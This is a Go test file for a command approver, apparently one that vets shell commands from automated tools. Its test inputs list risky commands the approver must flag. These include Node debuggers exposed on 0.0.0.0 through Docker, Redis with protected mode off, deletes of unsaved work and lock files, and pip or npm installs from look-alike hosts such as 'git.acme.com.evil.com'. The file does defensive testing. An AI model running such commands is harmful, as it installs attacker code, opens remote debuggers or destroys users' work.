package configs_test

import (
	"path/filepath"
	"strings"
	"testing"

	"approver.example"
)

// What listens inside of a container was judged as if everybody reached it. They reach what the call
// publishes, or what shares the network of the machine.
func TestListenersInContainers(t *testing.T) {
	judge := verdicts(t)
	const debug = " node node --inspect=0.0.0.0:9229 x.js"
	asks(t, judge, false, `
		docker run --rm -it`+debug+`
		docker run --rm -p 127.0.0.1:9229:9229`+debug+`
		docker run --rm -itp 127.0.0.1:9229:9229`+debug+`
		docker run --network front`+debug+`
		docker compose run`+debug+`
		docker run redis redis-server --protected-mode no --bind 0.0.0.0
		docker run node npx serve -s /app/dist`)
	asks(t, judge, true, `
		docker run -p 9229:9229`+debug+`
		docker run -p9229:9229`+debug+`
		docker run -itp 9229:9229`+debug+`
		docker run -P`+debug+`
		docker run -dP`+debug+`
		docker run --publish=9229:9229`+debug+`
		docker run --network host`+debug+`
		docker run --net=host`+debug+`
		docker run --net container:a`+debug+`
		docker run $OPTIONS`+debug+`
		docker compose run --service-ports`+debug+`
		docker exec`+debug+`
		docker compose exec`+debug+`
		kubectl exec node -- node --inspect=0.0.0.0:9229 x.js
		docker exec api ssh host node --inspect=0.0.0.0:9229 x.js
		ssh host node --inspect=0.0.0.0:9229 x.js
		node --inspect=0.0.0.0:9229 x.js
		redis-server --protected-mode no`)
}

// The same in the texts of which containers are made.
func TestListenersInTextsOfContainers(t *testing.T) {
	judge := verdicts(t)
	written := func(name string, lines ...string) string {
		return "cat > " + name + " <<'EOF'\n" + strings.Join(lines, "\n") + "\nEOF"
	}
	const debug = "    command: node --inspect=0.0.0.0:9229 x.js"
	for text, want := range map[string]bool{
		written("Dockerfile", "FROM node", `CMD ["node", "--inspect=0.0.0.0:9229", "x.js"]`):          false,
		written("Dockerfile", "FROM node", `CMD ["serve", "-s", "/app/dist"]`):                        false,
		written("Dockerfile", "FROM caddy", "CMD caddy file-server --root /usr/share/caddy"):          false,
		written("Dockerfile", "FROM redis", "CMD redis-server --protected-mode no"):                   false,
		written("compose.yaml", "services:", "  a:", debug):                                           false,
		written("compose.yaml", "services:", "  a:", debug, "    ports:", "      - 127.0.0.1:9:9229"): false,
		written("compose.yaml", "services:", "  a:", debug, "    ports:", "      - 9229:9229"):        true,
		written("compose.yaml", "services:", "  a:", debug, "    ports: [9229]"):                      true,
		written("compose.yaml", "services:", "  a:", debug, "    network_mode: host"):                 true,
		written("docker-compose.override.yml", "services:", "  a:", debug):                            true,
		written("docker-compose.dev.yml", "services:", "  a:", debug):                                 true,
		written("x.sh", "node --inspect=0.0.0.0:9229 x.js"):                                           true,
	} {
		if v := judge(text); (v.Decision <= approver.Ask) != want {
			t.Errorf("%s is %v (%s)", text, v.Decision, v.Rule)
		}
	}
}

// A delete of changed work said "git stash first" when the call had done that.
func TestSavedBeforeTheDelete(t *testing.T) {
	repo := inRepository(t)
	asks(t, repo, false, `
		git stash && rm changed.txt
		git stash -u && rm changed.txt
		git stash push -m "before it goes" && rm changed.txt
		git commit -am wip && rm changed.txt
		git add -A && git commit -m "wip: all" && rm changed.txt
		git add . && git commit -qm wip && rm changed.txt
		git rm changed.txt`)
	asks(t, repo, true, `
		rm changed.txt
		rm changed.txt && git stash
		git stash || rm changed.txt
		git stash; git stash clear; rm changed.txt
		git stash && git stash drop && rm changed.txt
		git stash drop && rm changed.txt
		git stash list && rm changed.txt
		git stash -- other && rm changed.txt
		git stash -p && rm changed.txt
		git commit -m wip && rm changed.txt
		git commit -m -a && rm changed.txt
		git commit kept.txt -m wip && rm changed.txt
		git commit --dry-run -am wip && rm changed.txt
		git add kept.txt && git commit -m wip && rm changed.txt
		git add -A -n && git commit -m wip && rm changed.txt
		git -C ../other stash && rm changed.txt
		cd ../other && git stash && rm ../shop/changed.txt
		echo git stash && rm changed.txt
		git rm -f changed.txt`)
	// A hook may refuse the commit.
	asksEach(t, repo, true, "git commit -am wip\nrm changed.txt", "git stash\nrm changed.txt")
}

// A lock file that the same call makes again was lost work.
func TestLockFilesMadeAgain(t *testing.T) {
	repo := lockedProject(t)
	asks(t, repo, false, `
		rm package-lock.json && npm i
		rm -rf node_modules package-lock.json && npm install
		rm -f Cargo.lock; cargo build --release
		pip install git+https://git.acme.com/lib.git
		npm install git+https://git.acme.com/ui.git
		cargo install --git https://git.acme.com/tool`)
	asks(t, repo, true, `
		rm package-lock.json
		rm package-lock.json && echo npm install
		rm package-lock.json # && npm install
		rm package-lock.json; exit; npm install
		rm package-lock.json && cd ../x && npm install
		rm package-lock.json && npm install --dry-run
		rm package-lock.json && npm install --no-package-lock
		rm package-lock.json || npm install
		rm package-lock.json && yarn
		npm install && rm package-lock.json
		pip install git+https://git.evil.com/lib.git
		pip install git+https://git.acme.com.evil.com/lib.git
		pip install git+https://git.acme.com@evil.com/lib.git
		pip install git+https://acme.com/lib.git
		npm install http://git.acme.com/x.tgz
		npm install https://money.example/x.tgz`)
}

// lockedProject judges in a clean repository with a remote and changed lock files.
func lockedProject(t *testing.T) func(string) approver.Verdict {
	t.Helper()
	home := realDir(t)
	dir := filepath.Join(home, "shop")
	put(t, dir, "package-lock.json", `{"funding": "https://money.example/x"}`)
	put(t, dir, "Cargo.lock", "a")
	for _, args := range [][]string{
		{"init", "-q"}, {"remote", "add", "origin", "https://git.acme.com/acme/shop.git"}, {"add", "-A"},
		{"commit", "-qm", "x"},
	} {
		gitIn(t, dir, args...)
	}
	put(t, dir, "package-lock.json", "{ }")
	put(t, dir, "Cargo.lock", "ab")
	return in(t, dir, map[string]string{"HOME": home})
}
